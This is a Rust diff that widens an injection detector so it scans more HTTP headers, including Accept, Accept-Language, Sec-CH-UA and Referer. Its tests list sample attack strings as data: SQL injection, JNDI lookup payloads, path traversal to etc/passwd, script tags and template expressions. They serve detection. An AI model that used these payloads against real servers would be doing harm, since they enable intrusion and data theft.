@@ -1,6 +1,7 @@
-//! Payloads in place of a name: injected code, templates that were never filled in, paths.
+//! Payloads in place of a name, or of what other headers say: injected code, templates that were never filled in, paths.
 
 use super::input::MAX_BYTES;
+use crate::request::{Header, Http};
 
 /// Whether a byte is one that payloads begin with, or with the one before it. Of escapes those that end a line.
 pub const fn may_begin(byte: u8, next: u8) -> bool {
@@ -15,6 +16,42 @@ const PLACES: usize = 32;
 /// (queries), 944 (look-ups), and 921 (split headers). Payloads without such a byte are vocabulary: `etc/passwd`,
 /// `union select`, `sleep(`.
 pub fn is_injected(text: &str) -> bool {
+    is_injected_at(text, may_begin)
+}
+
+/// Headers beside the user agent that tell a client, none of which has a byte that payloads begin with.
+const PLAIN: [Header; 4] =
+    [Header::Accept, Header::AcceptLanguage, Header::AcceptEncoding, Header::XRequestedWith];
+/// Those whose values are quoted, and whose nonsensical brands may have marks behind the quote.
+const QUOTED: [Header; 3] = [Header::SecChUa, Header::SecChUaFullVersionList, Header::SecChUaPlatform];
+
+/// Whether another header carries one.
+///
+/// A page elsewhere chooses the `Referer` of who follows its links, and must not make an attacker of them. So in that one
+/// only counts what no browser writes into an address: they escape blanks, quotes and angle brackets, and braces in front
+/// of the query (URL standard, §1.3).
+pub fn in_headers(http: &Http<'_>) -> bool {
+    let texts = |headers: &'static [Header]| headers.iter().filter_map(|header| http.header(*header));
+    texts(&PLAIN).any(|text| has(text, *b"<$\"'{|%") && is_injected(text))
+        || texts(&QUOTED).any(|text| {
+            has(text, *b"<${") && is_injected_at(text, |byte, _| matches!(byte, b'<' | b'$' | b'{'))
+        })
+        || texts(&[Header::Referer]).any(|text| has(text, *b"<\"'${") && is_written_by_hand(text))
+}
+
+fn is_written_by_hand(address: &str) -> bool {
+    let path = address.split('?').next().unwrap_or_default();
+    is_injected_at(address, |byte, next| matches!(byte, b'<' | b'"') || byte == b'\'' && next == b' ')
+        || is_injected_at(path, |byte, next| byte == b'{' || byte == b'$' && next == b'{')
+}
+
+/// Whether a text has one of some bytes. Nearly none has: every byte is looked at, because that takes no branch.
+fn has<const N: usize>(text: &str, bytes: [u8; N]) -> bool {
+    let read = text.as_bytes().get(..MAX_BYTES).unwrap_or(text.as_bytes());
+    read.iter().fold(false, |found, byte| bytes.iter().fold(found, |found, one| found | (byte == one)))
+}
+
+fn is_injected_at(text: &str, may_begin: impl Fn(u8, u8) -> bool) -> bool {
     let bytes = text.as_bytes();
     let bytes = bytes.get(..MAX_BYTES).unwrap_or(bytes);
     let begin = |(at, byte): &(usize, &u8)| may_begin(**byte, bytes.get(at + 1).copied().unwrap_or_default());
@@ -48,7 +85,8 @@ fn begins(text: &[u8], payload: &[u8]) -> bool {
 
 #[cfg(test)]
 mod tests {
-    use super::is_injected;
+    use super::{in_headers, is_injected};
+    use crate::request::{Http, Text};
 
     #[test]
     fn payloads_are_told_from_punctuation() {
@@ -81,6 +119,47 @@ mod tests {
             "x%0",
         ] {
             assert!(!is_injected(innocent), "{innocent}");
+        }
+    }
+
+    fn heard(name: &str, value: &str) -> bool {
+        let headers = [(Text::from(name), Text::from(value))].into_iter().collect();
+        in_headers(&Http { headers: Some(headers), ..Http::default() })
+    }
+
+    #[test]
+    fn payloads_in_other_headers_are_told_from_what_browsers_write() {
+        for (name, value) in [
+            ("accept-language", "en' or 1=1--"),
+            ("accept-language", "${jndi:ldap://x}"),
+            ("accept", "../../etc/passwd{{"),
+            ("x-requested-with", "<script>alert(1)</script>"),
+            ("sec-ch-ua", r#""Chromium";v="140", "<script src=x>";v="1""#),
+            ("sec-ch-ua-platform", r#""${env:HOME}""#),
+            ("referer", "${jndi:dns://x}"),
+            ("referer", "https://app.example/{{7*7}}"),
+            ("referer", "https://app.example/?q=<script>x</script>"),
+            ("referer", "https://app.example/?id=1' and 1=1"),
+        ] {
+            assert!(heard(name, value), "{name}: {value}");
+        }
+        for (name, value) in [
+            ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
+            ("accept-language", "nb-NO,nb;q=0.9,*;q=0.5"),
+            ("x-requested-with", "XMLHttpRequest"),
+            ("sec-ch-ua", r#"";Not A Brand";v="99", "Chromium";v="94""#),
+            ("sec-ch-ua", r#""(Not(A:Brand";v="8", "Chromium";v="140""#),
+            ("sec-ch-ua-full-version-list", r#""Not)A;Brand";v="8.0.0.0""#),
+            ("sec-ch-ua-platform", r#""Chrome OS""#),
+            // What a page elsewhere may have in its own address, or a form in a query.
+            ("referer", "https://attacker.example/';alert('x')//?x=${jndi:ldap://x}&y={{1}}"),
+            ("referer", "https://app.example/notes?text=one%0D%0Atwo"),
+            ("referer", "https://shop.example/?utm_campaign={{campaign.name}}&id=${ID}"),
+            ("referer", "https://app.example/it's/or/and"),
+            // It may be anybody's business.
+            ("x-note", "<script>"),
+        ] {
+            assert!(!heard(name, value), "{name}: {value}");
         }
     }
 }
